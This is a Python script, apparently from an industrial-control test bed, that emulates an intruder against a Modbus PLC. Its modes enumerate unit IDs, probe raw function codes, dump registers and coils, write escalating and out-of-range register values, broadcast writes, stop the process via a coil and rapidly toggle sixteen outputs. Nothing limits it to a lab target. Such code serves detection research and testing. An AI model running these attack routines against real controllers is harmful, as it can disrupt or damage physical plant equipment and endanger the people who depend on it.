"""What an intruder does with Modbus: looks for units and functions, reads, writes, stops, tries outputs.

attack_modbus.py PLC units N | functions UNIT | read N | write VALUE | stop 0 | outputs ROUNDS | registers N |
                     broadcast VALUE | odd VALUE
"""

import asyncio
import socket
import struct
import sys

from plantclock import pause
from pymodbus.client import AsyncModbusTcpClient

plc, what, number = sys.argv[1], sys.argv[2], int(sys.argv[3])


def functions(unit: int) -> None:
    """Every function code with an empty body but for two zero words; its answer read in full."""
    with socket.create_connection((plc, 502), timeout=3) as plain:
        for code in (*range(1, 25), 43, 90, 100, 125):
            plain.sendall(struct.pack("!HHHBBHH", code, 0, 6, unit, code, 0, 1))
            try:
                plain.recv(512)
            except TimeoutError:
                continue


async def main() -> None:  # noqa: PLR0912 (one branch a trick)
    if what == "functions":
        functions(number)
        return
    client = AsyncModbusTcpClient(plc, port=502, timeout=0.25, retries=0)
    await client.connect()
    if what == "units":
        for unit in range(1, number + 1):
            try:
                await client.read_holding_registers(0, count=1, device_id=unit)
            except Exception:  # noqa: BLE001 (a unit that does not answer ends the connection: the next one)
                client.close()
                await client.connect()
    elif what == "read":
        for turn in range(number):
            await client.read_holding_registers(turn * 10 % 100, count=10, device_id=1)
            await pause(0.3)
    elif what == "registers":
        for start in range(0, number, 25):
            await client.read_holding_registers(start, count=25, device_id=1)
            await client.read_coils(start, count=25, device_id=1)
    elif what == "write":
        for step in (0, 20, 40):
            await client.write_register(50, number + step, device_id=1)
            await pause(0.5)
    elif what == "stop":
        await client.write_coil(0, False, device_id=1)
    elif what == "broadcast":
        for step in (0, 20, 40):
            await client.write_register(50, number + step, device_id=0, no_response_expected=True)
            await pause(0.5)
    elif what == "odd":  # what a known client never did: a value far out of range, and two functions
        await client.write_register(50, number, device_id=1)
        await client.mask_write_register(address=51, and_mask=0xFF00, or_mask=0x0012, device_id=1)
        await client.readwrite_registers(read_address=0, read_count=4, write_address=50, values=[number], device_id=1)
    elif what == "outputs":
        for turn in range(number):
            for coil in range(16):
                await client.write_coil(coil, turn % 2 == 0, device_id=1)
    client.close()


asyncio.run(main())
